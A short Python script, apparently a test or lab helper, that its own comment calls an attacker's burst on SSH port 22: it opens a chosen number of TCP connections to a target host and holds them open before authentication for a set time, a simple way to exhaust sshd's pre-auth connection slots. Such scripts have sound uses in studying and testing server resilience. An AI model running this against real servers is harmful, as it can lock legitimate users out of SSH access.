# The attacker's burst on port 22: N TCP connections held open pre-auth (sshd drops them after LoginGraceTime).
# argv: HOST PORT N SECONDS
import socket, sys, time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
conns = []
for _ in range(n):
    try:
        conns.append(socket.create_connection((host, port), timeout=2))
    except OSError:
        pass
print("open %d" % len(conns), flush=True)
time.sleep(seconds)
